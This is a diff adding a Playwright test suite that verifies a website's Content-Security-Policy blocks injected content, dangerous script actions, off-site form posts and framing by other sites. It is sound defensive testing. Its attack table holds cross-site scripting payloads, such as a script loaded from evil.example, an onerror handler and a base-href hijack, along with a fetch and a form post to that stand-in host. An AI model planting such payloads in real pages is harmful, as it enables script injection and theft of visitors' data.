@@ -1,0 +1,155 @@
+/** The Content-Security-Policy in the browser: nothing of the site's is refused, everything else is. */
+import { globSync, readFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import { join } from 'node:path';
+import type { Page } from '@playwright/test';
+import { pagePath } from '../../scripts/lib/hosts/headers.ts';
+import { freePort, root } from '../site.ts';
+import { alive, expect, test, themes, wanting } from './test.ts';
+
+const dist = join(root, 'dist');
+const addresses = [...globSync('**/*.html', { cwd: dist }).map((file) => pagePath(file, '/')), '/no/such/page'];
+
+declare global {
+  var refused: string[];
+  var ran: unknown;
+  // Not yet among TypeScript's own.
+  var trustedTypes: { createPolicy(name: string, rules: Record<string, (text: string) => string>): unknown };
+}
+
+/** Keeps what the browser refuses in the page's `refused`: the directive, and `inline` or the host. */
+function watchRefusals(page: Page) {
+  return page.addInitScript(() => {
+    globalThis.refused = [];
+    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+      refused.push(`${effectiveDirective} ${URL.parse(blockedURI)?.host ?? blockedURI}`),
+    );
+  });
+}
+
+const inPage = (html: string) => /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1];
+
+for (const theme of themes) {
+  test(`nothing of any page is refused in the ${theme} theme, by header and page`, wanting(theme), async ({ page }) => {
+    test.slow();
+    await watchRefusals(page);
+    await page.setViewportSize({ width: 390, height: 844 });
+    for (const address of addresses) {
+      const response = await page.goto(address);
+      const policy = inPage(await page.content());
+      expect(policy, address).toContain("default-src 'none'");
+      // On loopback the server leaves out what needs TLS.
+      expect(response?.headers()['content-security-policy'], address).toBe(`${policy}; frame-ancestors 'none'`);
+      await alive(page);
+      await page.getByRole('button', { name: 'Menu' }).click();
+      await page.keyboard.press('Escape');
+      await page.getByRole('button', { name: 'Dark theme' }).click();
+      for (const filter of await page.getByRole('group').getByRole('button').all()) await filter.click();
+      expect(await page.evaluate(() => refused), address).toEqual([]);
+    }
+  });
+}
+
+/** What an attacker could get into a page, and the directive that refuses it. */
+const attacks = {
+  'script-src-elem inline': '<script>ran = 1</script>',
+  'script-src-elem evil.example': '<script src="https://evil.example/x.js"></script>',
+  'script-src-attr inline': '<img src="/none.png" alt="" onerror="ran = 1">',
+  'style-src-elem inline': '<style>body { display: none }</style>',
+  'style-src-elem evil.example': '<link rel="stylesheet" href="https://evil.example/x.css">',
+  'style-src-attr inline': '<p style="display: none">x</p>',
+  'img-src evil.example': '<img src="https://evil.example/x.png" alt="">',
+  'frame-src evil.example': '<iframe src="https://evil.example/" title="x"></iframe>',
+  'object-src evil.example': '<object data="https://evil.example/x"></object>',
+  'base-uri evil.example': '<base href="https://evil.example/">',
+};
+
+const policies = {
+  "the page's own": {
+    header: () => undefined,
+    html: (html: string) => html,
+  },
+  "the header's": {
+    header: (policy: string | undefined) => policy,
+    html: (html: string) => html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''),
+  },
+};
+
+for (const [name, policy] of Object.entries(policies)) {
+  test.describe(`${name} policy`, () => {
+    /** Opens Contact with one of both policies, and with more in it. */
+    async function openWith(page: Page, planted: string) {
+      await watchRefusals(page);
+      await page.route('**/contact', async (route) => {
+        const response = await route.fetch();
+        const headers = response.headers();
+        const header = policy.header(headers['content-security-policy']);
+        delete headers['content-security-policy'];
+        if (header) headers['content-security-policy'] = header;
+        const html = policy.html(await response.text());
+        await route.fulfill({ response, headers, body: html.replace('</main>', () => `${planted}</main>`) });
+      });
+      await page.goto('/contact');
+    }
+    const refusals = (page: Page) => page.evaluate(() => [...new Set(refused)]);
+
+    test.afterEach(({ problems }) => {
+      problems.length = 0;
+    });
+
+    test('refuses what was planted into the page', async ({ page }) => {
+      await openWith(page, Object.values(attacks).join('\n'));
+      await expect.poll(async () => (await refusals(page)).sort()).toEqual(Object.keys(attacks).sort());
+      expect(await page.evaluate(() => globalThis.ran)).toBeUndefined();
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    });
+
+    test('refuses what a planted script would do', async ({ page }) => {
+      await openWith(page, '');
+      const thrown = await page.evaluate(() => {
+        const attempts = [
+          () => document.body.insertAdjacentHTML('beforeend', '<p>x</p>'),
+          () => Object.assign(document.createElement('script'), { src: '/_astro/x.js' }),
+          () => trustedTypes.createPolicy('x', { createHTML: (html) => html }),
+          () => setTimeout('ran = 1'),
+        ];
+        return attempts.map((attempt) => {
+          try {
+            attempt();
+            return 'nothing';
+          } catch (error) {
+            return (error as Error).name;
+          }
+        });
+      });
+      expect(thrown).toEqual(['TypeError', 'TypeError', 'TypeError', expect.stringMatching(/TypeError|EvalError/)]);
+      expect(await page.evaluate(() => fetch('https://evil.example/').catch(() => 'refused'))).toBe('refused');
+      expect(await refusals(page)).toEqual(
+        expect.arrayContaining(['connect-src evil.example', 'trusted-types trusted-types-policy']),
+      );
+    });
+
+    test('sends forms nowhere but to the service and the site', async ({ page }) => {
+      await openWith(page, '<form method="post" action="https://evil.example/"><button>Take this</button></form>');
+      // Playwright would wait for a page that never comes.
+      await page.getByRole('button', { name: 'Take this' }).click({ noWaitAfter: true });
+      await expect.poll(() => refusals(page)).toContain('form-action evil.example');
+      const allowed = inPage(readFileSync(join(dist, 'contact.html'), 'utf8'))?.match(/form-action ([^;]*)/)?.[1];
+      expect(allowed).toBe("'self' https://formsubmit.co");
+    });
+  });
+}
+
+test('no other site can frame a page', async ({ page, baseURL, problems }) => {
+  const port = await freePort();
+  const other = createServer((_, response) => {
+    response.setHeader('Content-Type', 'text/html');
+    response.end(`<iframe src="${baseURL}/contact"></iframe>`);
+  }).listen(port, '127.0.0.1');
+  await page.goto(`http://localhost:${port}/`);
+  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^(chrome-error:|about:neterror)/);
+  // Firefox tells of it late.
+  await page.goto('about:blank');
+  problems.length = 0;
+  other.close();
+});
